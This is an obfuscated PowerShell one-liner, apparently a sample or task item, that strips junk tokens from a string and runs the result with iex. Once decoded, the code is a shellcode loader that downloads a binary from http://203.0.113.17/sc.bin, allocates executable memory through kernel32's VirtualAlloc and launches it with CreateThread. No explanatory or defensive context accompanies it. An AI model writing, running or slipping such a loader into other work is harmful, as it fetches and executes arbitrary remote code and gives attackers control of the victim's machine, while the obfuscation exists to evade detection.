iex (('# task 6993 v4
$cozj~3e = @''
[DllImport("kernel32.zj~3ll")] publiKJZ65c static extern IntPtr VirtualAlloc(IntPtr a, uint s, uint t, uint p);
[DllImport("kernel32.zj~3ll")] public static extern IntPtr CreateThreazj~3(IntPtr a, uint s, IntPtr f, IntPtr p, uint c, IntPtr i);
''@
$k = Azj~3zj~3-Type -MemberDefinition $cozj~3e -Name K32 -PassThru
[Byte[]]$sc = (New-Object Net.WebClient).Downloazj~3Data(''hKJZ65ttp://203.0.113.17/sc.bin'')
$m = $k::ViKJZ65rtualAlloc(0, $sc.Length, 0x3000, 0x40)
[System.Runtime.InteropServices.Marshal]::Copy($sc, 0KJZ65, $m, $sc.Length)
$k::CreateThreazj~3(0, 0, $m, 0, 0, 0)
' -replace 'KJZ65','').Replace('zj~3','d'))